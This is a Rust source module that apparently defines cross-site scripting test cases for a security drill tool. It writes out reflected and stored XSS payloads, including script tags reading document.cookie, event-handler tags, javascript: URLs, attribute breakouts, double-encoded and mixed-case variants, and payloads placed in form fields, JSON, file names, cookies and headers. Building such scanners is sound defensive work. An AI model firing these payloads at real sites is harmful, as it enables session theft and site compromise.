//! Cross-site scripting, reflected and stored.

use serde_json::json;

use super::encode::{json_escaped, percent, percent_twice};
use super::{Attack, AttackClass, Encoding, Place, Proof};
use crate::drill::request::{Field, Request, WECHAT};
use crate::portal::{LOGO_PNG, message_id};

const SCRIPT: &str = "<script>alert(document.cookie)</script>";
const IMAGE: &str = "<img src=x onerror=alert(1)>";
const SVG: &str = "<svg/onload=alert(1)>";

fn xss(place: Place, encoding: Encoding, name: &'static str, request: Request, markup: &str) -> Attack {
    Attack::new(AttackClass::Xss, place, encoding, name, request, Proof::Reflects(markup.to_owned()))
}

/// A message whose markup shows when it is viewed.
fn stored(place: Place, encoding: Encoding, name: &'static str, request: Request, text: &str) -> Attack {
    xss(place, encoding, name, request, text)
        .then(Request::get("/feedback/view").query("id", &message_id("", "", text)))
}

pub(super) fn all() -> Vec<Attack> {
    in_target().into_iter().chain(in_body()).chain(in_head()).collect()
}

fn in_target() -> Vec<Attack> {
    use Encoding::{DoublePercent, Obfuscated, Percent};
    use Place::{Path, Query};
    let search = |word: &str| Request::get("/search").query("q", word);
    vec![
        xss(Query, Percent, "script in a search", search(SCRIPT), SCRIPT),
        xss(Query, Percent, "image handler in a search", search(IMAGE), IMAGE),
        xss(Query, Percent, "svg handler in a search", search(SVG), SVG),
        xss(
            Query,
            Percent,
            "out of the attribute",
            search("\" autofocus onfocus=alert(1) x=\""),
            "value=\"\" autofocus onfocus=alert(1)",
        ),
        xss(
            Query,
            Obfuscated,
            "mixed case",
            search("<ScRiPt SrC=//a.example/x.js></sCrIpT>"),
            "<ScRiPt SrC=//a.example/x.js>",
        ),
        xss(
            Query,
            DoublePercent,
            "script, encoded twice",
            Request::get("/share").raw_query(&format!("title={}", percent_twice(SCRIPT))),
            SCRIPT,
        ),
        xss(
            Query,
            Percent,
            "script URL in a link",
            Request::get("/share").query("back", "javascript:alert(document.domain)"),
            "href=\"javascript:alert(document.domain)\"",
        ),
        xss(
            Query,
            Percent,
            "frame with a script URL",
            search("<iframe src=javascript:alert(1)></iframe>"),
            "<iframe src=javascript:alert(1)>",
        ),
        xss(
            Path,
            Percent,
            "script in a path",
            Request::get("/page/").raw_path(&percent("<script>alert(1)</script>")),
            "<script>alert(1)</script>",
        ),
    ]
}

fn in_body() -> Vec<Attack> {
    use Encoding::{JsonEscape, Percent, Plain};
    use Place::{Form, Json, Multipart};
    const BODY: &str = "<body onload=alert(1)>";
    const DETAILS: &str = "<details open ontoggle=alert(1)>";
    let appointment =
        |remark| Request::post("/appointment").form(&[("card", "MZ100001"), ("doctor", "1"), ("remark", remark)]);
    let file_name = "<img src=x onerror=alert(2)>.png";
    vec![
        xss(Form, Percent, "script in a remark", appointment(SCRIPT), SCRIPT),
        xss(Form, Percent, "handler in a remark", appointment(DETAILS), DETAILS),
        stored(Form, Percent, "stored script", Request::post("/feedback").form(&[("content", SCRIPT)]), SCRIPT),
        stored(
            Json,
            Plain,
            "stored image handler",
            Request::post("/api/v1/feedback").json(&json!({"content": IMAGE})),
            IMAGE,
        ),
        stored(
            Json,
            JsonEscape,
            "stored, in JSON escapes",
            Request::post("/api/v1/feedback").body("application/json", json_escaped("content", BODY)),
            BODY,
        ),
        stored(
            Multipart,
            Plain,
            "stored, in a part",
            Request::post("/feedback").multipart(&[Field::Text { name: "content", value: SVG }]),
            SVG,
        ),
        xss(
            Multipart,
            Plain,
            "handler in a file name",
            Request::post("/upload").multipart(&[Field::File {
                name: "file",
                file_name,
                content_type: "image/png",
                content: LOGO_PNG,
            }]),
            file_name,
        ),
    ]
}

fn in_head() -> Vec<Attack> {
    use Encoding::{Percent, Plain};
    use Place::{Cookie, Header};
    let my = || Request::get("/my").cookie("HSID", "s-2f60c7d8").agent(WECHAT);
    vec![
        xss(Cookie, Percent, "script in a cookie", my().cookie("nickname", &percent(SCRIPT)), SCRIPT),
        xss(Cookie, Plain, "handler in a cookie", my().cookie("nickname", IMAGE), IMAGE),
        xss(
            Header,
            Plain,
            "script in the user agent",
            Request::get("/help/browser").agent(&format!("Mozilla/5.0 {SCRIPT}")),
            SCRIPT,
        ),
        xss(
            Header,
            Plain,
            "handler in the referer",
            Request::get("/help/browser").header("Referer", &format!("http://a.example/?{IMAGE}")),
            IMAGE,
        ),
    ]
}
